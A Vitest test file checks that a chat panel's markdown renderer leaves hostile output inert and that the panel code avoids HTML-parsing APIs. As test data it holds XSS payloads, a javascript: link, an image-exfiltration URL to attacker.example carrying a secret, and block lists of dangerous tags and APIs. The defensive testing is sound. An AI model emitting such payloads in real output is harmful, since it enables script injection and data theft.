// @vitest-environment happy-dom
/**
 * Nothing in an answer loads from the network or runs code: a corpus of hostile output,
 * rendered at once and streamed character by character, leaves no active element, no event
 * handler attribute, no src/srcset, and no href but http(s)/mailto.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { browserSpeaks } from '../../i18n/catalogs.ts';
import { HOSTILE } from './hostile-corpus.ts';
import { manualFrames, renderAll, streamDeltas } from './helpers.ts';

const BANNED = 'script, style, iframe, object, embed, form, base, meta, img, svg, link, frame, frameset, audio, video, source';
const LIVE = /^(https?:|mailto:)/i;

export function assertInert(root: Element): void {
  expect(root.querySelectorAll(BANNED)).toHaveLength(0);
  for (const element of root.querySelectorAll('*')) {
    for (const attribute of element.getAttributeNames()) {
      expect(attribute.toLowerCase().startsWith('on'), `${element.tagName} ${attribute}`).toBe(false);
      expect(['src', 'srcset', 'srcdoc', 'style', 'action', 'formaction', 'background'].includes(attribute.toLowerCase())).toBe(false);
    }
    const href = element.getAttribute('href');
    if (href !== null) expect(href, element.outerHTML).toMatch(LIVE);
    if (element.tagName === 'A') expect(element.getAttribute('rel')).toBe('noopener noreferrer');
  }
}

let frames: ReturnType<typeof manualFrames>;
beforeEach(async () => {
  await browserSpeaks('en');
  frames = manualFrames();
});
afterEach(() => {
  frames.restore();
  document.body.replaceChildren();
});

describe('hostile output', () => {
  it('rendered at once: inert, and the raw HTML shows as text', () => {
    const c = renderAll(HOSTILE);
    assertInert(c);
    expect(c.textContent).toContain('<img src=x onerror=alert(1)>');
    expect(c.textContent).toContain('<script>alert(1)</script>');
  });

  it('streamed character by character: inert at every frame', () => {
    streamDeltas([...HOSTILE], frames, { framesEvery: 7, onFrame: () => assertInert(document.body) });
    assertInert(document.body);
  });

  it('links with a bad scheme are inert text; images are placeholders that load nothing', () => {
    const c = renderAll('[x](javascript:alert(1)) ![pic](https://attacker.example/?q=secret) ![d](data:image/png;base64,AAAA)');
    expect(c.querySelectorAll('a.md-link')).toHaveLength(0);
    expect(c.querySelector('.md-link.inert')!.textContent).toBe('x');
    const [remote, data] = [...c.querySelectorAll('[data-testid="image-placeholder"]')];
    expect(remote!.tagName).toBe('A');
    expect(remote!.getAttribute('href')).toBe('https://attacker.example/?q=secret');
    expect(remote!.textContent).toContain('pic');
    expect(remote!.textContent).toContain('attacker.example');
    expect(data!.tagName).toBe('SPAN');
    expect(data!.hasAttribute('href')).toBe(false);
  });

  it('an image inside a link is not a second link', () => {
    const c = renderAll('[![inner](https://attacker.example/in.png)](https://ok.example/)');
    expect(c.querySelectorAll('a')).toHaveLength(1);
    expect(c.querySelector('a [data-testid="image-placeholder"]')!.tagName).toBe('SPAN');
  });
});

describe('the panel never parses HTML strings', () => {
  const files = (dir: string): string[] =>
    readdirSync(dir, { withFileTypes: true }).flatMap((entry) => {
      const path = join(dir, entry.name);
      return entry.isDirectory() ? files(path) : /\.(ts|tsx)$/.test(entry.name) ? [path] : [];
    });
  const sources = files(join(process.cwd(), 'src/panel'));

  it('finds the panel sources', () => {
    expect(sources.some((f) => f.endsWith(join('markdown', 'index.ts')))).toBe(true);
  });

  it.each([
    'innerHTML',
    'outerHTML',
    'insertAdjacentHTML',
    'DOMParser',
    'dangerouslySetInnerHTML',
    'createContextualFragment',
    'document.write',
    'srcdoc',
  ])('no %s in src/panel', (banned) => {
    const hits = sources.filter((file) => readFileSync(file, 'utf8').includes(banned));
    expect(hits).toEqual([]);
  });
});
